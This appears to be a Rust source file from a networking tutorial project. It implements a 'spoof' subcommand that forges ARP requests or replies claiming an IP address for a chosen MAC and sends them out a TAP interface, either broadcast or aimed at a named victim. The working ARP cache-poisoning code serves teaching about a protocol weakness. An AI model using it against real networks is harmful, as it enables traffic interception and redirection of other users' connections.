//! `tapstack spoof`: says that an address is ours. Nothing in ARP asks for a proof.

use std::process::ExitCode;
use std::thread;
use std::time::Duration;

use addresses::Mac;
use link_and_ip::link::tap::Tap;
use link_and_ip::wire::arp::{Operation, Packet};
use link_and_ip::wire::ethernet::{EtherType, Header};

use crate::arguments::{Lie, SpoofArguments};
use crate::setup::settle;
use crate::{complain, say};

// ANCHOR: lie
/// A true frame with one false field: the sender's IP address.
fn lie(arguments: &SpoofArguments) -> Vec<u8> {
    let (claim, mac) = (arguments.claim, arguments.mac);
    // To everyone, it is about itself (RFC 5944 §4.6): gratuitous ARP.
    let (target_ip, target_mac) = arguments.victim.unwrap_or((claim, mac));
    let destination = arguments.victim.map_or(Mac::BROADCAST, |(_, mac)| mac);
    let mut frame = Vec::new();
    Header { destination, source: mac, ether_type: EtherType::ARP }.write(&mut frame);
    let operation = match arguments.form {
        Lie::Request => Operation::Request,
        Lie::Reply => Operation::Reply,
    };
    let packet = Packet { operation, sender_mac: mac, sender_ip: claim, target_mac, target_ip };
    packet.write(&mut frame);
    frame
}
// ANCHOR_END: lie

pub(crate) fn run(arguments: &SpoofArguments) -> anyhow::Result<ExitCode> {
    let tap = Tap::open(&arguments.tap)?;
    settle(tap.name());
    let frame = lie(arguments);
    for number in 0..arguments.count {
        if number > 0 {
            thread::sleep(Duration::from_secs(1));
        }
        if !tap.send(&frame)? {
            complain(&format!("{0} is down: ip link set {0} up", tap.name()));
            return Ok(ExitCode::FAILURE);
        }
        let whom = arguments.victim.map_or("everyone".into(), |(ip, _)| ip.to_string());
        say(&format!("told {whom}: {} is at {}", arguments.claim, arguments.mac));
    }
    Ok(ExitCode::SUCCESS)
}
